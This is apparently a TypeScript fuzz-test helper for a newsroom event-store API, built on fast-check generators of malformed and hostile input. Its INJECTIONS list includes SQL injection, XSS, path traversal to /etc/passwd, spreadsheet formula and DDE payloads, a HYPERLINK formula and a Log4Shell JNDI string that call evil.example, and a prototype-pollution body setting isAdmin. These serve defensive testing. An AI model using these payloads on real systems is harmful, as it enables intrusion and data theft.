import fc from 'fast-check';
import { validateSubmission } from '@newsroom/domain';
import { departedEnvelope } from '@newsroom/testing';

/**
 * Hostile input for the fuzz tests (issue 11): strings and values a client, a broken producer or an attacker
 * may send. Shared by fuzz-write, fuzz-query and fuzz-kafka.
 */

/** Fixed seed so a run is repeatable; FUZZ_SEED=<n> tries another. fast-check prints the seed and path on failure. */
const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 20261129);

/** fc.assert options: fixed seed, a run count and a time budget (the property stops early, not failing, when out of time). */
export const fuzzOptions = (numRuns: number, budgetMs: number) => ({
  seed: FUZZ_SEED,
  numRuns,
  interruptAfterTimeLimit: budgetMs,
  markInterruptAsFailure: false,
  endOnFailure: false,
});

/** Valid text that other programs may take as code: it must be stored and returned byte for byte. */
export const INJECTIONS = [
  "'; DROP TABLE event_store.events; --",
  "1' OR '1'='1",
  'Robert"); DELETE FROM read_models.departures; --',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\uFEFFbom',
  'Ω≈ç√∫ 日本語 🏳️‍🌈 e\u0301',
];

/** Text Postgres cannot store or that is malformed UTF-16. */
const UNSTORABLE = ['\u0000', 'a\u0000b', '\uD800', 'x\uDC00y', '\uDFFF\uD800', 'ok\uD83D'];

/** Controls, line breaks and bidi overrides: refused in one-line text (all but LF and CRLF in free text too). */
const CONTROL = ['\u0007\u001b[31mred', '\r\n\r\nHTTP/1.1 200 OK', '\t', '\u0085\u2028\u2029', '\b\f\v', '\u202Egnp.exe', 'a\u2066b\u2069'];

const BAD_DATES = [
  '2024-13',
  '2024-02-30',
  '0000-00-00',
  '99999-01-01',
  '-271821-04-20T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '2024-Q5',
  '2024-H3',
  '1e999',
  '',
  ' 2024',
  '2024-01-01T25:61:61Z',
  'Infinity',
];

/** Dates and amounts at the edges of what the schema takes: accepted ones must be stored and reported, not a 500. */
export const EDGE_DATES = [
  '0000',
  '0000-01-01',
  '0000-H1',
  '0001-01-01',
  '1582-10-10',
  '1900-02-29',
  '2000-02-29',
  '9999',
  '9999-12-31',
  '9999-Q4',
  '9999-12-31T23:59:59.999999999Z',
  '0000-01-01T00:00:00-23:59',
  '2024-06-30T23:59:60Z',
  '2024-01-01T00:00:00+99:99',
];
export const EDGE_AMOUNTS = [
  '0',
  '-0',
  '-999999999999999999999999999999.9999999999',
  '999999999999999999999999999999.9999999999',
  '0.0000000001',
  '00000000000000000000000000001',
  '-1',
];

const BAD_AMOUNTS = ['1e999', '-1', 'NaN', '0x10', '1'.repeat(400), '3.5e-400', ' 12', '12 ', '١٢٣', '1_000'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(...UNSTORABLE),
  fc.constantFrom(...CONTROL),
  fc.constantFrom(...BAD_DATES, ...EDGE_DATES),
  fc.constantFrom(...BAD_AMOUNTS, ...EDGE_AMOUNTS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'binary-ascii', maxLength: 20 }),
  fc.constantFrom('x'.repeat(10_001), 'é'.repeat(40_000), '😀'.repeat(20_000)),
);

const protoKeyed = fc.constantFrom('__proto__', 'constructor', 'prototype').map((k) => withOwnKey({}, k, { polluted: true }));

export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ v: unknown }>((tie) => ({
  v: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.integer(),
    fc.double(),
    fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -0, 5e-324, 2 ** 63, -(2 ** 31) - 1),
    fc.boolean(),
    fc.constant(null),
    protoKeyed,
    fc.array(tie('v'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('__proto__', 'constructor', '$where', '')), tie('v'), {
      maxKeys: 4,
    }),
  ),
})).v;

/** Sets an own enumerable property even for "__proto__" (plain assignment would set the prototype). */
function withOwnKey<T extends object>(target: T, key: string, value: unknown): T {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}

/** Deep copy with `value` put at `path` (or the key removed when `value` is REMOVE). */
const REMOVE = Symbol('remove');
export function setPath(root: unknown, path: (string | number)[], value: unknown): unknown {
  if (!path.length) return value;
  const copy = (Array.isArray(root) ? [...root] : root && typeof root === 'object' ? { ...root } : {}) as Record<string | number, unknown>;
  const [head, ...rest] = path;
  const next = setPath(copy[head], rest, value);
  if (next === REMOVE) delete copy[head];
  else withOwnKey(copy, String(head), next);
  return copy;
}

const DEPARTED_PATHS: (string | number)[][] = [
  ['id'],
  ['type'],
  ['subject'],
  ['occurredAt'],
  ['modality'],
  ['expectedVersion'],
  ['data'],
  ['sources'],
  ['data', 'organization'],
  ['data', 'role'],
  ['data', 'roleCategory'],
  ['data', 'reason'],
  ['data', 'extra'],
  ['sources', 0],
  ['sources', 0, 'outlet'],
  ['sources', 0, 'url'],
  ['sources', 0, 'language'],
  ['sources', 0, 'publishedAt'],
  ['sources', 0, 'quote'],
  ['sources', 5],
  ['unknownField'],
  ['__proto__'],
  ['constructor'],
];
const REVENUE_PATHS: (string | number)[][] = [
  ['data', 'money', 'amount'],
  ['data', 'money', 'currency'],
  ['data', 'money'],
  ['data', 'period'],
  ['data', 'basis'],
  ['occurredAt'],
  ['data', '__proto__'],
];

export const revenueEnvelope = () => ({
  ...departedEnvelope(),
  type: 'revenue.reported',
  subject: 'org:openai',
  occurredAt: '2024-10',
  data: { money: { amount: '3700000000', currency: 'USD' }, period: '2024', basis: 'projected' },
});

/** A valid envelope (fresh id) with 1 to 3 of its fields replaced by hostile values or removed. */
export const mutatedEnvelope: fc.Arbitrary<Record<string, unknown>> = fc
  .tuple(
    fc.boolean(),
    fc.array(fc.tuple(fc.nat(100), fc.oneof({ weight: 6, arbitrary: hostileValue }, { weight: 1, arbitrary: fc.constant(REMOVE) })), {
      minLength: 1,
      maxLength: 3,
    }),
    fc.constantFrom(...BAD_DATES, ...BAD_AMOUNTS, ...EDGE_DATES, ...EDGE_AMOUNTS),
  )
  .map(([revenue, edits, special]) => {
    const paths = revenue ? REVENUE_PATHS : DEPARTED_PATHS;
    let env: unknown = revenue ? revenueEnvelope() : departedEnvelope();
    for (const [i, value] of edits) {
      const path = paths[i % paths.length];
      // Dates and amounts get their own bad values half the time, so they are not drowned by random strings.
      const v = (path.includes('occurredAt') || path.includes('amount') || path.includes('publishedAt')) && i % 2 ? special : value;
      env = setPath(env, path, v);
    }
    return env as Record<string, unknown>;
  });

/** A raw body with a short label: fast-check prints the label, not 200 kB of brackets, when a property fails. */
export interface RawBody {
  label: string;
  body: string | Buffer;
}
const raw = (label: string, body: string | Buffer): RawBody =>
  ({ label, body, [fc.toStringMethod]: () => JSON.stringify(label) }) as RawBody;

/** Raw request bodies: broken or deeply nested JSON, wrong top-level types, big arrays, invalid UTF-8. */
export function brokenBodies(limitBytes: number): fc.Arbitrary<RawBody> {
  const valid = JSON.stringify(departedEnvelope());
  return fc.oneof(
    fc
      .constantFrom(
        '',
        '{',
        '{"id":',
        "{'id': 1}",
        '{"a":1,}',
        '[1,2',
        'nul',
        'null',
        'true',
        '0',
        '"text"',
        '[]',
        '{}',
        '{"events":null}',
        '{"events":{}}',
        '{"events":[]}',
        '{"events":"x"}',
        '\uFEFF{}',
        valid.slice(0, valid.length - 1),
        valid + 'x',
        valid + valid,
      )
      .map((b) => raw(b.slice(0, 80), b)),
    fc.integer({ min: 1, max: 60_000 }).map((n) => raw(`[ nested ${n} deep`, '['.repeat(n) + ']'.repeat(n))),
    fc.integer({ min: 1, max: 40_000 }).map((n) => raw(`{"a": nested ${n} deep`, '{"a":'.repeat(n) + '1' + '}'.repeat(n))),
    fc
      .integer({ min: 20, max: 20_000 })
      .map((n) =>
        raw(`valid envelope, data nested ${n} deep`, valid.replace(/"data":\{[^}]*\}/, `"data":${'{"a":'.repeat(n)}1${'}'.repeat(n)}`)),
      ),
    fc
      .integer({ min: 20, max: 20_000 })
      .map((n) =>
        raw(
          `batch whose event's data nests ${n} deep`,
          `{"events":[${valid.replace(/"data":\{[^}]*\}/, `"data":${'['.repeat(n)}${']'.repeat(n)}`)}]}`,
        ),
      ),
    fc
      .integer({ min: 1001, max: 1200 })
      .map((n) => raw(`batch of ${n} empty objects`, JSON.stringify({ events: Array.from({ length: n }, () => ({})) }))),
    fc.constant(raw('body over the limit', JSON.stringify({ ...departedEnvelope(), data: { role: 'x'.repeat(limitBytes) } }))),
    fc.constant(raw('batch of 5000 numbers', JSON.stringify({ events: Array.from({ length: 5000 }, (_, i) => i) }))),
    fc
      .uint8Array({ minLength: 1, maxLength: 64 })
      .map((bytes) =>
        raw(
          `id of raw bytes ${Buffer.from(bytes).toString('hex')}`,
          Buffer.concat([Buffer.from('{"id":"'), Buffer.from(bytes), Buffer.from('"}')]),
        ),
      ),
    fc.constant(
      raw(
        'valid envelope with invalid UTF-8 inside',
        Buffer.concat([
          Buffer.from(valid.slice(0, 40)),
          Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]),
          Buffer.from(valid.slice(40)),
        ]),
      ),
    ),
    fc.constant(raw('valid envelope with a __proto__ key', withProto(valid))),
  );
}

/** A valid envelope as JSON text with an own "__proto__" key first, as an attacker would write it. */
function withProto(valid: string): string {
  return '{"__proto__":{"polluted":true,"isAdmin":true},' + valid.slice(1);
}

/** The envelope fields of an event as GET /v1/events/{id} answers it (server-side fields left out). */
export interface StoredEventFields {
  id: unknown;
  type: unknown;
  subject: unknown;
  occurredAt: unknown;
  data: unknown;
  sources: unknown;
  modality: unknown;
}

/**
 * What the store gave back must still be a valid event of its type: re-validated with the submission schema,
 * i.e. the type's data schema, the envelope rules and storable text.
 */
export function revalidate(detail: StoredEventFields): { ok: boolean; errors?: unknown } {
  const v = validateSubmission({
    id: detail.id,
    type: detail.type,
    subject: detail.subject,
    occurredAt: detail.occurredAt,
    data: detail.data,
    sources: detail.sources,
    modality: detail.modality,
  });
  return v.ok ? { ok: true } : { ok: false, errors: v.errors };
}
